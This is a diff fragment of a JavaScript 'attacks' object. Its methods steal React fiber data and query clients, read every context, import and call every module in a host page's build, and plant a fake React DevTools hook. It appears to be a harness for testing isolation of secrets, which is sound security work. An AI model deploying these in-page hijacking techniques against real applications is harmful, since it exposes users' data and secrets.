@@ -130,7 +130,6 @@ const attacks = {
       if (typeof type === 'function') stolen.types.push([type, memoizedProps]);
       if (memoizedProps?.queryClient !== undefined) stolen.client = memoizedProps.queryClient;
     }
-    return stolen.types.length;
   },
   /** Renders its own component below every provider that it took, which reads every context. */
   contexts: () => {
@@ -192,12 +191,11 @@ const attacks = {
   /** Imports every module of the host's build, and calls what it exports. */
   chunks: async ({ id, vault, aim }) => {
     const { integrity } = JSON.parse(document.querySelector('script[type=importmap]').textContent);
-    const handle = search(nodes(), (value) => Object.isFrozen(value) && Object.getPrototypeOf(value) === null);
+    const handle = search(nodes(), (value) => !Reflect.getPrototypeOf(value) && Object.isFrozen(value));
     for (const url of Object.keys(integrity)) {
       const module = await import(url);
       keep(module);
-      if (url.includes('/vendor/')) continue;
-      for (const each of Object.values(module)) {
+      for (const each of url.includes('/vendor/') ? [] : Object.values(module)) {
         if (typeof each === 'function') await tryCall(each, vault, [[handle], [handle, vault]]);
       }
     }
@@ -258,7 +256,6 @@ const attacks = {
       supportsFiber: true,
       inject: keep,
       onCommitFiberRoot: keep,
-      onCommitFiberUnmount: () => {},
     };
   },
   peers: () => {
